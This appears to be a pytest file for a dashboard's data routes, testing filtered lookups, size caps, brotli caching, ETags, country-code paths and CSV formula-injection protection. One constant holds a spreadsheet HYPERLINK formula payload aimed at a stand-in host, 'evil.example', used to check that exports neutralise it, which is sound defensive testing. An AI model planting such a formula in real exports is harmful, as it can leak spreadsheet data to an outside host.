"""The data routes: answers found by index, capped in rows and bytes, cached by bytes, and CSVs a
spreadsheet cannot turn into formulas.

Expectations are worked out independently: rows by pandas filtering the whole table (not the
index the route uses), sizes from the caps the issue states (5 MB an answer), formulas by the
OWASP rule (a cell beginning with =, +, -, @, tab or CR).
"""

from __future__ import annotations

import csv
import io
import json

import brotli
import pandas as pd
import pytest

from dashboard import charts
from dashboard.app import create_app
from dashboard.app.server import data_routes
from dashboard.app.server.bytecache import ByteLRU
from dashboard.views import data, observations
from dashboard.views.tabular import comment_line, records_csv, safe_text

INJECTION = 'a,=HYPERLINK("http://evil.example/"&A1),b'
FORMULA = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def client():
    app = create_app()
    return app.server.test_client()


@pytest.fixture(scope="module")
def routes(client) -> data_routes.DataRoutes:
    return client.application.extensions["dashboard_data_routes"]


@pytest.mark.parametrize("query", [
    {"iso3": "GBR"},
    {"source": "nato,sipri", "iso3": "DEU,GBR,POL", "indicator": "milex_share_gdp", "years": "2010-2020"},
    {"edition": "2025-04", "years": "2024"},
    {"indicator": "ukraine_aid_military", "iso3": "USA"},
    {"source": "worldbank", "years": "-1965"},
])
def test_the_index_finds_the_rows_a_full_scan_finds(query):
    app = data.get()
    filters = observations.parse(query, app)
    got = observations.select(app, filters)
    table = app.table
    keep = pd.Series(True, index=table.index)
    for column in ("source", "edition", "iso3", "indicator"):
        if column in query:
            keep &= table[column].isin(query[column].split(","))
    if "years" in query:
        low, _, high = query["years"].partition("-")
        low = int(low) if low else 0
        high = int(high) if high else (low if "-" not in query["years"] else 9999)
        keep &= table["year"].between(low, high)
    expected = table.loc[keep].reset_index(drop=True)
    assert len(got) == len(expected) > 0
    pd.testing.assert_frame_equal(got, expected[got.columns.tolist()])


def test_filters_selecting_the_same_rows_share_one_canonical_form():
    app = data.get()
    last = app.observation_index.last_year
    one = observations.parse({"iso3": "GBR,DEU", "years": f"1963-{last}"}, app)
    two = observations.parse({"iso3": "DEU,GBR", "years": f"1963-{last + 7}"}, app)
    assert one.canonical() == two.canonical()
    everything = observations.parse({"iso3": "GBR", "years": "1000-3000"}, app)
    assert everything.years is None
    none = observations.parse({"iso3": "GBR", "years": "1800-1810"}, app)
    assert none.years == observations.NO_YEARS and observations.select(app, none).empty


def test_an_answer_over_5_mb_or_50000_rows_is_refused_with_413_and_where_to_get_it(client):
    # the 13.8 MB JSON the adversarial run found
    resp = client.get("/data/observations.json?edition=2024-04&years=1963-")
    assert resp.status_code == 413
    text = resp.get_data(as_text=True)
    assert "over 5 MB" in text and "limit=" in text and "/data/snapshot.csv.zip" in text and text.count("\n") == 1
    resp = client.get("/data/observations.csv")
    assert resp.status_code == 413 and "more than the 50,000" in resp.get_data(as_text=True)


def test_limit_and_offset_page_through_the_rows(client):
    app = data.get()
    everything = observations.select(app, observations.parse({"iso3": "GBR"}, app))
    page = pd.read_csv(io.StringIO(client.get("/data/observations.csv?iso3=GBR&offset=100&limit=50")
                                   .get_data(as_text=True)), keep_default_na=False)
    assert len(page) == 50
    assert list(page["indicator"]) == list(everything["indicator"][100:150])
    assert list(page["year"]) == list(everything["year"][100:150])
    bad = client.get("/data/observations.csv?iso3=GBR&limit=-1")
    assert bad.status_code == 400 and "limit: give a whole number" in bad.get_data(as_text=True)


def test_brotli_answers_are_compressed_once_and_decompress_to_the_answer(client, routes):
    plain = client.get("/data/observations.json?iso3=FRA").get_data()
    packed = client.get("/data/observations.json?iso3=FRA", headers={"Accept-Encoding": "gzip, br"})
    assert packed.headers["Content-Encoding"] == "br" and "Accept-Encoding" in packed.headers["Vary"]
    assert brotli.decompress(packed.get_data()) == plain
    assert len(json.loads(plain)) > 100
    before = routes.packed.size
    again = client.get("/data/observations.json?iso3=FRA", headers={"Accept-Encoding": "br"})
    assert again.get_data() == packed.get_data() and routes.packed.size == before   # kept, not redone


def test_a_thousand_distinct_filters_stay_within_the_stated_byte_bound(client, routes):
    """Every country × several year ranges × two formats: far more than the caches hold."""
    codes = sorted(data.get().observation_index.values("iso3"))[:125]
    asked = 0
    for i, code in enumerate(codes):
        for years in ("1990-2000", "2000-2010", "2010-", "-1990"):
            for fmt in ("csv", "json"):
                resp = client.get(f"/data/observations.{fmt}?iso3={code}&years={years}",
                                  headers={"Accept-Encoding": "br" if i % 2 else "identity"})
                assert resp.status_code in (200, 400)
                asked += 1
    assert asked >= 1000
    assert routes.cached_bytes <= data_routes.CACHE_BYTES
    assert routes.rows.size <= data_routes.ROWS_CACHE_BYTES and routes.packed.size <= data_routes.PACKED_CACHE_BYTES


def test_the_byte_cache_drops_the_least_recently_used_to_fit():
    cache = ByteLRU(max_bytes=100, max_item=60)
    cache.put("a", b"x" * 40)                   # 40 bytes and a 1-byte key: 41
    cache.put("b", b"y" * 40)
    assert cache.get("a") == b"x" * 40          # "a" is now the most recent
    cache.put("c", b"z" * 40)                   # 123 > 100: "b" goes
    assert cache.get("b") is None and cache.size == 82 and len(cache) == 2
    cache.put("d", b"w" * 60)                   # 61 with its key, more than one item may be: not kept
    assert cache.get("d") is None and cache.size == 82


# ---- spreadsheet formulas ----------------------------------------------------------------------

def test_safe_text_follows_the_owasp_rule():
    assert [safe_text(t) for t in ("=1+1", "+1+cmd", "-cmd", "@SUM(A1)", "\tx", "\rx")] == \
        ["'=1+1", "'+1+cmd", "'-cmd", "'@SUM(A1)", "'\tx", "'\rx"]
    assert [safe_text(t) for t in ("-0.36", "+1", "plain", "a=b")] == ["-0.36", "+1", "plain", "a=b"]
    assert comment_line(f"Source: x. Search: {INJECTION}") == \
        "# Source: x. Search: a,'=HYPERLINK('http://evil.example/'&A1),b"
    assert records_csv(["t"], [{"t": "=2+5"}, {"t": "-3"}]) == "t\n'=2+5\n-3\n"


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _risky(cells: list[str]) -> list[str]:
    def number(cell: str) -> bool:
        try:
            float(cell)
        except ValueError:
            return False
        return True
    return [c for c in cells if c.startswith(FORMULA) and not number(c)]


def test_no_csv_route_lets_a_users_text_become_a_formula(client):
    """Every chart's /data/<chart>.csv with the injection in every text parameter (the tracker's
    quick filter), the tracker's own CSV and the card download: no cell starts a formula."""
    texts = {name: [p.name for p in chart.params if p.kind == "text"] for name, chart in charts.CHARTS.items()}
    assert texts["pledge-status"] == ["q"]
    for name, params in texts.items():
        query = "&".join(f"{p}={INJECTION}" for p in params)
        resp = client.get(f"/data/{name}.csv?{query}")
        assert resp.status_code in (200, 400), name
        if resp.status_code == 200:
            assert not _risky(_cells(resp.get_data(as_text=True))), name
    tracker = data.get().tracker
    body = tracker.csv(tracker.matching("all", "all", ""), f"Source: NATO. Search: {INJECTION}")
    assert not _risky(_cells(body))
    observations_csv = client.get("/data/observations.csv?iso3=GBR").get_data(as_text=True)
    assert not _risky(_cells(observations_csv))


# ---- exact path codes ---------------------------------------------------------------------------

@pytest.mark.parametrize("url", ["/country/GBRX", "/country/GBRX?embed=country-share", "/country/GB",
                                 "/country/GBR1?embed=country-share"])
def test_a_country_path_must_be_a_code_exactly(client, url):
    """/country/GBRX is no country anywhere: a 404 page without the UK's chart as its picture,
    and no embed (the chart parameters once kept the first three characters)."""
    resp = client.get(url)
    text = resp.get_data(as_text=True)
    assert resp.status_code == 404
    assert "og:image" not in text and "country-share.png?country=GBR" not in text


def test_a_chart_picture_for_a_loose_code_is_refused(client):
    resp = client.get("/images/country-share.png?country=GBRX")
    assert resp.status_code in (400, 404)
    assert charts.params_from_query("country-share", {}, "/country/GBRX") == {"country": "GBRX"}


def test_a_refused_answer_is_refused_from_memory_the_next_time(client, routes, monkeypatch):
    """413 once, then the same filter is refused without finding or encoding the rows again."""
    url = "/data/observations.json?edition=2025-04&indicator=milex_share_gdp,milex_usd"
    first = client.get(url)
    assert first.status_code == 413
    monkeypatch.setattr(observations, "matching", lambda *a: pytest.fail("rows looked up again"))
    again = client.get(url)
    assert again.status_code == 413 and again.get_data() == first.get_data()


def test_every_answer_leaves_encoded_and_a_repeat_is_304_before_any_work(client, monkeypatch):
    """``*`` takes brotli, ``br;q=0`` refuses it, a client taking neither gets identity (said,
    so flask-compress does not compress it again); a repeat with the ETag is 304 at once."""
    url = "/data/observations.json?iso3=ITA"
    assert client.get(url, headers={"Accept-Encoding": "*"}).headers["Content-Encoding"] == "br"
    assert client.get(url, headers={"Accept-Encoding": "br;q=0, gzip"}).headers["Content-Encoding"] == "gzip"
    plain = client.get(url, headers={"Accept-Encoding": "deflate"})
    assert plain.headers["Content-Encoding"] == "identity" and json.loads(plain.get_data())
    packed = client.get(url, headers={"Accept-Encoding": "br"})
    assert packed.headers["ETag"] != plain.headers["ETag"]     # one ETag per representation
    monkeypatch.setattr(observations, "matching", lambda *a: pytest.fail("rows looked up for a 304"))
    again = client.get(url, headers={"Accept-Encoding": "br", "If-None-Match": packed.headers["ETag"]})
    assert again.status_code == 304
    weak = client.get(url, headers={"If-None-Match": "W/" + plain.headers["ETag"]})
    assert weak.status_code == 304
